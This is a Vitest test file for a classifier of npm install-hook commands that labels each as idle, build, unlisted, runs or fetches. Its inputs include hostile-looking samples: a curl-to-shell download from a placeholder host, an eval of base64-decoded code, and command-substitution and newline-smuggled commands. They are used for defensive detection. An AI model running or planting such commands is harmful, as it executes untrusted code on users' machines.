import { expect, it } from 'vitest';
import { commandKind } from './install-commands.ts';

it.each([
  ['husky', 'idle'],
  ['npx husky install', 'idle'],
  ['is-ci || husky', 'idle'],
  ['echo done', 'idle'],
  ['node-gyp rebuild', 'build'],
  ['prebuild-install || node-gyp rebuild', 'build'],
  ['patch-package', 'build'],
  ['prisma generate', 'unlisted'],
  ['npm run build', 'unlisted'],
  ['node setup.js', 'runs'],
  ['NODE_ENV=production node setup.js', 'runs'],
  ['cross-env CI=1 python3 x.py', 'runs'],
  ['./install.sh', 'runs'],
  ['node-gyp rebuild && node x.js', 'runs'],
  ['husky\nsh x', 'runs'],
  ['bun run index.js', 'runs'],
  ['npm install -g tide-tables@latest', 'fetches'],
  ['npx tide-tables', 'fetches'],
  ['curl -s https://quayside.invalid/x | sh', 'fetches'],
  ['echo $(cat x)', 'fetches'],
  ['husky `x`', 'fetches'],
  ['node -e "eval(atob(x))"', 'fetches'],
  ['', 'idle'],
])('%j: %s', (command, kind) => {
  expect(commandKind(command)).toBe(kind);
});

it.each([
  ['a ', 'unlisted'],
  ['&&', 'idle'],
])('a megabyte of "%s" is read', (piece, kind) => {
  expect(commandKind(piece.repeat(500_000))).toBe(kind);
});
